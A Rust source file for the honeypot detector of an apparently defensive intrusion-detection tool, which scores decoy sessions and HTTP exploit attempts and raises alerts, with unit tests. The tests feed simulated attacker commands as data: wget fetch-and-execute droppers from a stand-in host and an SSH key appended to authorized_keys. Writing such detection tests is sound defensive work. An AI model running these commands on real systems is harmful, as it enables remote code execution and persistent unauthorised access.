//! The honeypot detector: what attackers do on the decoys, read by the tripwires.
//!
//! - `honeypot.session`: a session's risk ([`crate::tripwire::SessionRisk`], over every command
//!   run in it, whichever decoy or Cowrie log it came from) crosses the threshold; the alert
//!   is on the session, carries the techniques of what happened in it (not a fixed list), its
//!   worst tripwire's severity, and the commands that tripped as evidence. It grows while the
//!   session goes on.
//! - `honeypot.exploit`: a request to the HTTP decoy taken for an exploit attempt, on the
//!   address, named by its CVE or family (T1190).
//!
//! Logins, downloads and proxy requests on a honeypot are the log rules' `honeypot.login`,
//! `honeypot.download` and `honeypot.proxy`, and brute-force stories (the same rules as sshd's).

use crate::tripwire::{SessionRisk, Tripwires};
use rustc_hash::FxHashMap;
use std::net::IpAddr;
use std::sync::Arc;
use tripline_detect::contract::{DetectorSpec, Placement, Sharding};
use tripline_detect::{DetectStats, Detector, Output, Roles};
use tripline_event::catalog::RuleInfo;
use tripline_event::net::Cidr;
use tripline_event::{Alert, Entity, Event, HoneypotKind, Kind, Severity, Text};

/// Every technique a session alert may carry (its own are those of what happened).
const SESSION_TECHNIQUES: &[&str] = &["T1059.004", "T1105", "T1053.003", "T1098.004"];

pub const SESSION: RuleInfo = RuleInfo {
    id: "honeypot.session",
    techniques: SESSION_TECHNIQUES,
    summary: "a honeypot session's commands crossed the tripwires' risk threshold",
    base_score: 0.8,
};

pub const EXPLOIT: RuleInfo = RuleInfo {
    id: "honeypot.exploit",
    techniques: &["T1190"],
    summary: "an exploit attempt against the HTTP decoy",
    base_score: 0.85,
};

/// The honeypot detector's settings (`[detect.honeypot]`).
#[derive(Debug, Clone)]
pub struct HoneypotDetectConfig {
    /// A session's risk (0–1) at which `honeypot.session` fires.
    pub threshold: f32,
    pub cooldown_seconds: i64,
    /// Sessions followed at once (the least recently active go first).
    pub max_sessions: usize,
    /// Addresses that never alert (`[detect] allowlist`, and this host's own with
    /// `ignore_self`): their events are counted and skipped.
    pub allow: Vec<Cidr>,
}

impl Default for HoneypotDetectConfig {
    fn default() -> Self {
        HoneypotDetectConfig {
            threshold: 0.5,
            cooldown_seconds: 1800,
            max_sessions: 10_000,
            allow: vec![],
        }
    }
}

struct Followed {
    risk: SessionRisk,
    last: i64,
    alert: Option<Alert>,
    dirty: bool,
}

/// One instance (sharded on the address: every session of one address on one shard).
pub struct HoneypotDetector {
    cfg: HoneypotDetectConfig,
    sessions: FxHashMap<Arc<str>, Followed>,
    /// Each address's exploit alert, and whether it grew since the last flush.
    exploits: FxHashMap<IpAddr, (Alert, bool)>,
    warming: bool,
    stats: DetectStats,
}

/// The time at or before which the older half of `times` lies (what a full map evicts).
fn older_half(times: impl Iterator<Item = i64>) -> i64 {
    let mut ages: Vec<i64> = times.collect();
    if ages.is_empty() {
        return i64::MIN;
    }
    let mid = ages.len() / 2;
    *ages.select_nth_unstable(mid).1
}

/// The registration.
pub fn spec(cfg: HoneypotDetectConfig) -> DetectorSpec {
    DetectorSpec {
        name: "honeypot",
        rules: vec![&SESSION, &EXPLOIT],
        sharding: Sharding::ByKeys(Roles(Roles::IP)),
        make: Box::new(move |_p: Placement| Box::new(HoneypotDetector::new(cfg.clone()))),
    }
}

impl HoneypotDetector {
    pub fn new(cfg: HoneypotDetectConfig) -> HoneypotDetector {
        HoneypotDetector {
            cfg,
            sessions: FxHashMap::default(),
            exploits: FxHashMap::default(),
            warming: false,
            stats: DetectStats::default(),
        }
    }

    fn command(&mut self, ev: &Event, input: &str) {
        let Some(session) = ev.session.as_deref() else {
            return;
        };
        let now = ev.ts.0;
        if self.sessions.len() >= self.cfg.max_sessions && !self.sessions.contains_key(session) {
            // the least recently active half goes (their alerts stay as they were)
            let cut = older_half(self.sessions.values().map(|f| f.last));
            self.sessions.retain(|_, f| f.last > cut);
            self.stats.evictions += 1;
        }
        let f = self
            .sessions
            .entry(Arc::from(session))
            .or_insert_with(|| Followed {
                risk: SessionRisk::new(),
                last: now,
                alert: None,
                dirty: false,
            });
        f.last = now;
        // the tables are built at the first command seen (a log-only run never builds them)
        let hits = f.risk.observe(Tripwires::builtin(), now, input);
        if self.warming {
            return;
        }
        let risk = f.risk.risk();
        if risk.total < self.cfg.threshold || (hits.is_empty() && f.alert.is_some()) {
            return;
        }
        let techniques = f.risk.techniques();
        let severity = f.risk.worst().unwrap_or(Severity::Medium);
        let evidence: Vec<Arc<str>> = f
            .risk
            .hits()
            .iter()
            .rev()
            .take(10)
            .map(|h| Arc::from(h.reason.as_str()))
            .collect();
        let explanation = format!(
            "session {session} from {} tripped {} tripwire(s): risk {:.2} (automation {:.2}, persistence {:.2}, stealth {:.2}); latest: {}",
            ev.src_ip.map_or("?".into(), |ip| ip.to_string()),
            f.risk.hits().len(),
            risk.total,
            risk.automation,
            risk.persistence,
            risk.stealth,
            f.risk.hits().last().map_or("", |h| h.reason.as_str())
        );
        match &mut f.alert {
            Some(a) => {
                a.count = f.risk.hits().len() as u64;
                a.last_seen = a.last_seen.max(ev.ts);
                a.severity = a.severity.max(severity);
                a.score = SESSION.score(a.count).max(risk.total);
                a.techniques = techniques.into();
                a.evidence = evidence;
                a.explanation = explanation;
                self.stats.alerts_updated += 1;
            }
            None => {
                let entity = Entity::Session(session.to_owned());
                f.alert = Some(Alert {
                    id: Alert::make_id(SESSION.id, &entity, ev.ts),
                    rule: Text::const_new(SESSION.id),
                    severity,
                    score: SESSION.score(1).max(risk.total),
                    entity,
                    src_ip: ev.src_ip,
                    user: ev.user.clone(),
                    host: ev.host.clone(),
                    sensor: Text::const_new("honeypot"),
                    techniques: techniques.into(),
                    count: f.risk.hits().len() as u64,
                    first_seen: ev.ts,
                    last_seen: ev.ts,
                    explanation,
                    evidence,
                    detail: None,
                });
                self.stats.alerts_opened += 1;
            }
        }
        f.dirty = true;
    }

    fn exploit(&mut self, ev: &Event, target: &str, detail: &str) {
        let Some(ip) = ev.src_ip else { return };
        if self.warming {
            return;
        }
        let entity = Entity::Ip(ip);
        let cooldown = self.cfg.cooldown_seconds * 1_000_000;
        let evidence: Arc<str> = Arc::from(format!("{detail}: {target}").as_str());
        if let Some((a, dirty)) = self
            .exploits
            .get_mut(&ip)
            .filter(|(a, _)| ev.ts.0 - a.last_seen.0 <= cooldown)
        {
            a.count += 1;
            a.last_seen = a.last_seen.max(ev.ts);
            a.score = EXPLOIT.score(a.count);
            if a.evidence.len() < 10 && !a.evidence.contains(&evidence) {
                a.evidence.push(evidence);
            }
            a.explanation = format!(
                "{ip} sent {} exploit attempt(s) to the HTTP decoy; latest: {detail}",
                a.count
            );
            *dirty = true;
            self.stats.alerts_updated += 1;
            return;
        }
        if self.exploits.len() >= self.cfg.max_sessions && !self.exploits.contains_key(&ip) {
            // the least recently active half goes (their alerts stay as they were flushed)
            let cut = older_half(self.exploits.values().map(|(a, _)| a.last_seen.0));
            self.exploits.retain(|_, (a, _)| a.last_seen.0 > cut);
            self.stats.evictions += 1;
        }
        // a new alert (the address's earlier one, past its cooldown, was flushed already)
        self.exploits.insert(
            ip,
            (
                Alert {
                    id: Alert::make_id(EXPLOIT.id, &entity, ev.ts),
                    rule: Text::const_new(EXPLOIT.id),
                    severity: Severity::High,
                    score: EXPLOIT.score(1),
                    entity,
                    src_ip: Some(ip),
                    user: None,
                    host: ev.host.clone(),
                    sensor: Text::const_new("honeypot"),
                    techniques: tripline_event::Techniques::Borrowed(EXPLOIT.techniques),
                    count: 1,
                    first_seen: ev.ts,
                    last_seen: ev.ts,
                    explanation: format!(
                        "{ip} sent an exploit attempt to the HTTP decoy: {detail}"
                    ),
                    evidence: vec![evidence],
                    detail: None,
                },
                true,
            ),
        );
        self.stats.alerts_opened += 1;
    }
}

impl Detector for HoneypotDetector {
    fn name(&self) -> &'static str {
        "honeypot"
    }

    fn process(&mut self, ev: &Event, _roles: Roles) {
        let Kind::Honeypot(k) = &ev.kind else { return };
        self.stats.events += 1;
        if let Some(ip) = ev.src_ip {
            if self.cfg.allow.iter().any(|c| c.contains(ip)) {
                self.stats.allowlisted += 1;
                return;
            }
        }
        match k {
            HoneypotKind::Command { input } => self.command(ev, input),
            HoneypotKind::Request {
                class,
                detail,
                target,
                ..
            } if &**class == "exploit" => self.exploit(ev, target, detail),
            HoneypotKind::Close { .. } => {
                // the session is over: its alert (if any) stays as it was emitted
                if let Some(s) = ev.session.as_deref() {
                    if let Some(f) = self.sessions.get(s) {
                        if !f.dirty {
                            self.sessions.remove(s);
                        }
                    }
                }
            }
            _ => {}
        }
    }

    fn flush(&mut self, _last: bool) -> Vec<Output> {
        let mut out = vec![];
        for f in self.sessions.values_mut() {
            if std::mem::take(&mut f.dirty) {
                if let Some(a) = &f.alert {
                    out.push(Output::Alert(a.clone()));
                }
            }
        }
        for (a, dirty) in self.exploits.values_mut() {
            if std::mem::take(dirty) {
                out.push(Output::Alert(a.clone()));
            }
        }
        if let Some(newest) = self.exploits.values().map(|(a, _)| a.last_seen.0).max() {
            let cooldown = self.cfg.cooldown_seconds * 1_000_000;
            self.exploits
                .retain(|_, (a, _)| newest - a.last_seen.0 <= cooldown);
        }
        out
    }

    fn set_warming(&mut self, on: bool) {
        self.warming = on;
    }

    fn tracked(&self) -> usize {
        self.sessions.len() + self.exploits.len()
    }

    fn stats(&self) -> DetectStats {
        self.stats
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tripline_event::{Line, SensorKind, Timestamp};

    fn ev(session: &str, secs: i64, kind: HoneypotKind) -> Event {
        Event {
            src_ip: Some("203.0.113.5".parse().unwrap()),
            session: Some(session.into()),
            ..Event::new(
                Timestamp::from_secs(1_700_000_000 + secs),
                SensorKind::new("honeypot"),
                Arc::from("h"),
                Kind::Honeypot(kind),
                Line::from("x"),
            )
        }
    }

    fn cmd(session: &str, secs: i64, input: &str) -> Event {
        ev(
            session,
            secs,
            HoneypotKind::Command {
                input: input.into(),
            },
        )
    }

    fn alerts(d: &mut HoneypotDetector) -> Vec<Alert> {
        d.flush(false)
            .into_iter()
            .filter_map(|o| match o {
                Output::Alert(a) => Some(a),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn a_dropper_session_is_one_alert_with_the_techniques_of_what_happened() {
        let mut d = HoneypotDetector::new(HoneypotDetectConfig::default());
        d.process(&cmd("s1", 0, "uname -a"), Roles(Roles::IP));
        assert!(
            alerts(&mut d).is_empty(),
            "recon alone stays under the threshold"
        );
        d.process(
            &cmd("s1", 5, "cd /tmp; wget http://198.51.100.7/x.sh"),
            Roles(Roles::IP),
        );
        d.process(&cmd("s1", 9, "chmod +x x.sh; ./x.sh"), Roles(Roles::IP));
        let a = alerts(&mut d);
        assert_eq!(a.len(), 1, "{a:?}");
        let a = &a[0];
        assert_eq!(&*a.rule, "honeypot.session");
        assert_eq!(a.entity, Entity::Session("s1".into()));
        assert_eq!(a.severity, Severity::Critical);
        assert!(a.techniques.contains(&"T1105"), "{:?}", a.techniques);
        assert!(
            !a.techniques.contains(&"T1098.004"),
            "only what happened: {:?}",
            a.techniques
        );
        assert!(
            a.evidence.iter().any(|e| e.contains("wget")),
            "{:?}",
            a.evidence
        );
        // a harmless command later does not re-emit it; a new tripwire grows it
        d.process(&cmd("s1", 20, "ls"), Roles(Roles::IP));
        assert!(alerts(&mut d).is_empty());
        d.process(
            &cmd("s1", 30, "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"),
            Roles(Roles::IP),
        );
        let grown = alerts(&mut d);
        assert_eq!(grown.len(), 1);
        assert!(
            grown[0].techniques.contains(&"T1098.004"),
            "{:?}",
            grown[0].techniques
        );
        // another session is another story
        d.process(&cmd("s2", 40, "ls -la"), Roles(Roles::IP));
        assert!(alerts(&mut d).is_empty());
    }

    #[test]
    fn an_allowlisted_address_is_counted_and_never_alerts() {
        let mut d = HoneypotDetector::new(HoneypotDetectConfig {
            allow: vec![Cidr::parse("203.0.113.0/24").unwrap()],
            ..Default::default()
        });
        for (i, c) in ["wget http://x/y -O /tmp/y", "chmod +x /tmp/y", "/tmp/y"]
            .iter()
            .enumerate()
        {
            d.process(&cmd("s1", i as i64, c), Roles(Roles::IP));
        }
        assert!(alerts(&mut d).is_empty());
        assert_eq!(d.stats().allowlisted, 3);
        // the same session from an address not on the list trips the tripwires
        let mut d = HoneypotDetector::new(HoneypotDetectConfig::default());
        for (i, c) in ["wget http://x/y -O /tmp/y", "chmod +x /tmp/y", "/tmp/y"]
            .iter()
            .enumerate()
        {
            d.process(&cmd("s1", i as i64, c), Roles(Roles::IP));
        }
        assert_eq!(alerts(&mut d).len(), 1);
    }

    #[test]
    fn exploits_are_one_growing_alert_per_address() {
        let mut d = HoneypotDetector::new(HoneypotDetectConfig::default());
        let req = |secs, detail: &str| {
            ev(
                "h1",
                secs,
                HoneypotKind::Request {
                    method: "GET".into(),
                    target: "/x".into(),
                    class: "exploit".into(),
                    detail: detail.into(),
                },
            )
        };
        d.process(&req(0, "CVE-2021-41773"), Roles(Roles::IP));
        d.process(&req(1, "path-traversal"), Roles(Roles::IP));
        let a = alerts(&mut d);
        assert_eq!(a.len(), 1);
        assert_eq!(&*a[0].rule, "honeypot.exploit");
        assert_eq!(a[0].count, 2);
        let scanner = ev(
            "h2",
            2,
            HoneypotKind::Request {
                method: "GET".into(),
                target: "/.env".into(),
                class: "scanner".into(),
                detail: "dotenv".into(),
            },
        );
        d.process(&scanner, Roles(Roles::IP));
        assert!(alerts(&mut d).is_empty(), "a scanner is not an exploit");
    }

    #[test]
    fn the_catalog_knows_every_technique_a_session_can_carry() {
        for t in Tripwires::builtin().tripwires() {
            for id in t.techniques {
                assert!(
                    tripline_event::catalog::technique(id).is_some(),
                    "{} names {id}",
                    t.id
                );
            }
        }
        for id in SESSION.techniques.iter().chain(EXPLOIT.techniques) {
            assert!(tripline_event::catalog::technique(id).is_some(), "{id}");
        }
    }
}
